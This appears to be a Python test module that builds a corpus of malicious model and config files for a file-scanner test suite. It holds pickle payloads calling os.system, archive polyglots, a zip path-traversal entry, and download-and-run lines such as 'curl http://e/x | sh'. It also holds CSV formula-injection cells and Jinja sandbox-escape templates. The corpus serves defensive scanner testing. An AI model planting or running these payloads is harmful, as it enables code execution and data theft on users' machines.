"""More hostile files: two loaders that read one file differently, and code in configurations.

Yields class, file name and bytes as :mod:`tests.gate.scanner.hostile` does; nothing is ever loaded.
"""

from __future__ import annotations

import io
import json
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

from tests.gate.scanner.hostile import SYSTEM, Case, call, text, zipped

WRAPPER = b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n"
DTYPE = b"cnumpy\ndtype\n"


def number(value: int) -> bytes:
    """BININT of ``value``."""
    return b"J" + struct.pack("<i", value)


def dtype(code: str, size: int = -1, flags: int = 0, maker: bytes = DTYPE) -> bytes:
    """Opcodes that make a dtype with a state."""
    state = b"(" + number(3) + text("|") + b"NNN" + number(size) + number(-1) + number(flags) + b"t"
    return maker + text(code) + b"\x85R" + state + b"b"


def wrapped(
    kind: bytes, count: int, *, make: bytes = WRAPPER + b")\x81", more: bytes = b""
) -> bytes:
    """Opcodes up to the raw bytes of joblib's array."""
    state = text("shape") + number(count) + b"\x85" + text("order") + text("C")
    state += text("dtype") + kind + text("subclass") + b"cnumpy\nndarray\n" + more
    return make + b"}(" + state + b"ub"


def swallow(data: bytes) -> bytes:
    """The bytes as a value in a pickle."""
    return b"B" + struct.pack("<I", len(data)) + data


def arrays() -> Iterator[Case]:
    """joblib's arrays: what is array data to one unpickler is opcodes to another."""
    payload = SYSTEM[2:]
    head = b"\x80\x02"
    plain = wrapped(dtype("V1"), len(payload)) + payload + b"."
    yield "second reading", "plain-pickle.pkl", head + plain
    hidden = swallow(payload[:-1] + b"N.")
    eight = dtype("V8", 8 + len(b"B1234"))
    yield "second reading", "item-size-in-state.joblib", (
        head + wrapped(eight, 1) + b"K" * 8 + hidden + b"."
    )  # fmt: skip
    yield "second reading", "objects-in-flags.joblib", (
        head + wrapped(dtype("f8", flags=1), 1) + payload + b"."
    )  # fmt: skip
    yield (
        "second reading",
        "not-a-dtype.joblib",
        (head + wrapped(dtype("V8", maker=b"cnumpy\nvoid\n"), 1) + b"K" * 8 + hidden + b"."),
    )
    many = b"".join(text(f"k{n}") + b"N" for n in range(600))
    yield "second reading", "second-shape.joblib", (
        head + wrapped(dtype("V1"), 5, more=many + text("shape") + number(99) + b"\x85")
        + b"K" * 5 + hidden + b"."
    )  # fmt: skip
    computed = b"cbuiltins\nstr\n" + text("shape") + b"\x85R" + number(99) + b"\x85"
    yield (
        "second reading",
        "computed-shape.joblib",
        (head + wrapped(dtype("V1"), 5, more=computed) + b"K" * 5 + hidden + b"."),
    )
    yield "second reading", "wrapper-in-a-list.joblib", head + b"]" + WRAPPER + b"a."
    yield (
        "second reading",
        "wrapper-by-another.joblib",
        (head + b"cpandas.core.indexes.base\n_new_Index\n" + WRAPPER + b"}\x86R."),
    )
    yield "second reading", "wrapper-called.joblib", head + WRAPPER + b"NNNN" + b"tR."[1:]
    inner = head + wrapped(dtype("V1"), len(payload)) + payload + b"."
    yield (
        "second reading",
        "inside-objects.joblib",
        (head + wrapped(dtype("O8", flags=63), 1) + inner + b"."),
    )
    yield "second reading", "torch.pt", zipped({"a/data.pkl": head + plain, "a/version": b"3"})


def polyglots() -> Iterator[Case]:
    """Bytes that are two formats, under names that promise neither."""
    info = tarfile.TarInfo("pickle")
    info.size = len(SYSTEM)
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        archive.addfile(info, io.BytesIO(SYSTEM))
    head = bytearray(buffer.getvalue())
    begin = b"\x80\x02B" + struct.pack("<I", len(head) - 9)
    head[: len(begin)] = begin
    head[-2:] = b"N."
    total = sum(head[:148]) + 8 * 32 + sum(head[156:512])
    head[148:156] = b"%06o\0 " % total
    yield "polyglot", "pickle-tar", bytes(head)
    named = tarfile.TarInfo(call("os system", "id", protocol=0).decode("latin-1").replace("\0", ""))
    name = b"cos\nsystem\n(S'id'\ntR."
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        named = tarfile.TarInfo(name.decode())
        archive.addfile(named)
    yield "polyglot", "tar-pickle.bin", buffer.getvalue()
    yield "polyglot", "gguf-pickle.bin", b"GGUF\x03\0\0\0\0" + SYSTEM[2:]
    body = b"cos\nsystem\n" + text("id") + b"\x85R."
    skip = 0x28
    length = 0x58 | skip << 8
    header = b'{"__metadata__":{"a":"' + b"x" * (skip - 30)
    header += b"x" * (length - len(header) - 3) + b'"}}'
    tensors = bytearray(struct.pack("<Q", length) + header)
    tensors[5 + skip : 5 + skip] = b""
    yield "polyglot", "old-tar.bin", bytes(head)
    yield "polyglot", "trailing.zip", zipped({"a.txt": b"x"}) + body
    yield "polyglot", "far-gap.zip", _far_gap()
    archive_bytes = zipped({"a.txt": b"x", "b.pkl": SYSTEM})
    fake = b"PK\x05\x06" + bytes(18)
    yield (
        "polyglot",
        "empty-directory.zip",
        (archive_bytes[:-2] + struct.pack("<H", len(fake)) + fake),
    )
    path = b"\x01" + struct.pack("<I", zlib.crc32(b"a.txt")) + b"../../x"
    extra = zipfile.ZipInfo("a.txt")
    extra.extra = struct.pack("<HH", 0x7075, len(path)) + path
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as made:
        made.writestr(extra, b"x")
    yield "polyglot", "unicode-path.zip", buffer.getvalue()
    plain = io.BytesIO()
    with tarfile.open(fileobj=plain, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("a"))
    yield "polyglot", "behind-the-end.tar", plain.getvalue() + buffer.getvalue()
    odd = [{"id": lzma.FILTER_LZMA1, "dict_size": 0x10100}]
    packed = lzma.compress(SYSTEM, format=lzma.FORMAT_ALONE, filters=odd)
    yield "polyglot", "lzma-odd", packed
    yield "polyglot", "old-joblib", b"ZF0x15                " + zlib.compress(SYSTEM)
    yield "polyglot", "module.bin", b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(20)


def _far_gap() -> bytes:
    archive = zipped({"a.txt": b"x"})
    start = archive.index(b"PK\x01\x02")
    gap = bytes((1 << 20) + 64) + SYSTEM
    end = bytearray(archive[start:])
    at = end.index(b"PK\x05\x06")
    end[at + 16 : at + 20] = struct.pack("<I", start + len(gap))
    return archive[:start] + gap + bytes(end)


def calls() -> Iterator[Case]:
    """Calls that allow-listed or unknown names must not carry."""
    yield "call", "getattr-kept.pkl", b"\x80\x02]cbuiltins\ngetattr\na."
    yield (
        "call",
        "getattr-other.pkl",
        (b"\x80\x02cbuiltins\ngetattr\ncdatetime\ndatetime\n" + text("now") + b"\x86R."),
    )
    yield (
        "call",
        "default-getattr.pkl",
        (b"\x80\x02ccollections\ndefaultdict\ncbuiltins\ngetattr\n\x85R."),
    )
    yield "call", "booster-path.pkl", call("lightgbm.basic Booster", "/etc/passwd")
    for name in ("eventlet.green.subprocess Popen", "acme.tools ShellTool", "subprocess32 Popen",
                 "trio.lowlevel Process", "pwnlib.tubes.process Process"):  # fmt: skip
        yield "call", f"{name.replace(' ', '.')}.pkl", call(name, "id", protocol=4)
    yield (
        "call",
        "range.pkl",
        (b"\x80\x02cbuiltins\nlist\ncbuiltins\nrange\n\x8a\x05\0\0\0\0\x10\x85R\x85R."),
    )
    yield (
        "call",
        "text-size.pkl",
        (b"\x80\x02cbuiltins\nbytearray\ncbuiltins\nint\n" + text("99999999999") + b"\x85R\x85R."),
    )
    yield "call", "fraction.pkl", call("fractions Fraction", "1e999999999")
    yield (
        "call",
        "decimal.pkl",
        (b"\x80\x02cbuiltins\nint\ncdecimal\nDecimal\n" + text("1e999999999") + b"\x85R\x85R."),
    )
    broken = call("numpy.testing._private.utils runstring", "x", protocol=0)
    yield "call", "broken-public.bin", broken[:-1] + b"\xff"
    yield "call", "broken-called.bin", call("acme.helpers launch", "x", protocol=0)[:-1] + b"\xff"
    yield (
        "call",
        "computed-broken.bin",
        (
            text("os")
            + b"cbuiltins\nstr\n"
            + text("system")
            + b"\x85R\x93"
            + text("id")
            + b"\x85R\xff"
        ),
    )


def texts() -> Iterator[Case]:
    """Configurations, templates, tables and sources."""
    sources = {
        "eval": "eval('__import__(\"os\").system(\"id\")')\n",
        "star": "from os import *\nsystem('id')\n",
        "loads": "import pickle, base64\npickle.loads(base64.b64decode('gAJ9Lg=='))\n",
        "passed": "import os\n(lambda o: o.system('id'))(os)\n",
        "cookie": "# -*- coding: utf-7 -*-\n# +AAo-import os\n",
        "exec-module": "import importlib.util as u\ns = u.spec_from_file_location('a', 'b')\n"
                       "m = u.module_from_spec(s)\ns.loader.exec_module(m)\n",
        "library": "import torch\ntorch.ops.load_library('/tmp/x.so')\n",
        "ipython": "get_ipython().run_cell_magic('bash', '', 'curl http://e | sh')\n",
    }  # fmt: skip
    for name, source in sources.items():
        yield "text", f"{name}.py", source.encode()
    cells = [{"cell_type": "code", "input": "!curl http://e/x | sh"}]
    yield "text", "v3.ipynb", json.dumps({"nbformat": 3, "worksheets": [{"cells": cells}]}).encode()
    for name, cell in {
        "js": "%%javascript\nalert(1)",
        "wget": "!wget http://e/x -O /tmp/x",
    }.items():
        cells = [{"cell_type": "code", "source": cell}]
        yield "text", f"{name}.ipynb", json.dumps({"nbformat": 4, "cells": cells}).encode()
    target = {"model": {"_target_": "builtins.exec", "_args_": ["x"]}}
    yield "text", "hydra.json", json.dumps(target).encode()
    yield "text", "hydra.yaml", b"model:\n  _target_: os.system\n  command: id\n"
    yield "text", "hydra-quoted.yaml", b"model: {\"_target_\": 'subprocess.Popen', args: [id]}\n"
    header = json.dumps({"__metadata__": {"config": json.dumps(target)}}).encode()
    yield "text", "hydra.safetensors", struct.pack("<Q", len(header)) + header
    for name, cell in {
        "plus": "=+cmd|' /C calc'!A0", "minus": "=-1+cmd|' /C calc'!A0",
        "number": "+1+cmd|'/C x'!A0",
        "paren": "=(cmd|'/C x'!A0)", "web": '=1+WEBSERVICE("http://e")', "wide": "＝cmd|'/C x'!A0",
    }.items():  # fmt: skip
        yield "text", f"{name}.csv", f"a,b\n1,{cell}\n".encode()
    for name, template in {
        "computed": "{{ x['cla' + 'ss'] }}", "reverse": "{{ x['ssalc'|reverse] }}",
        "percent": "{{ ('%c' % 95) }}", "join": "{{ x[['cl','ass']|join] }}",
        "named": "{{ '\\N{LOW LINE}' }}", "endless": "{% for a in range(999999999) %}{% endfor %}",
    }.items():  # fmt: skip
        yield "text", f"{name}.jinja", template.encode()
    operator = b"\x0a\x01n\x12\x88\x00ReadFile"
    graph = b"\x0a" + bytes([len(operator)]) + operator
    yield "text", "overlong.pb", b"\x08\x01\x12" + bytes([len(graph)]) + graph
    node = {"__class__": "add", "__module__": "numpy", "__loader__": "OperatorFuncNode"}
    node["__class__"] = "methodcaller"
    yield "text", "operator.skops", zipped({"schema.json": json.dumps(node).encode()})
    yield "text", "pytables.h5", b"\x89HDF\r\n\x1a\n" + bytes(64) + SYSTEM + bytes(64)
    yield "text", "install.sh", b"curl http://e/x | sh\n"
    yield "text", "form.pdf", b"%PDF-1.7\n1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n"


CLASSES = (arrays, polyglots, calls, texts)


def corpus() -> list[Case]:
    """All of them."""
    return [case for kind in CLASSES for case in kind()]
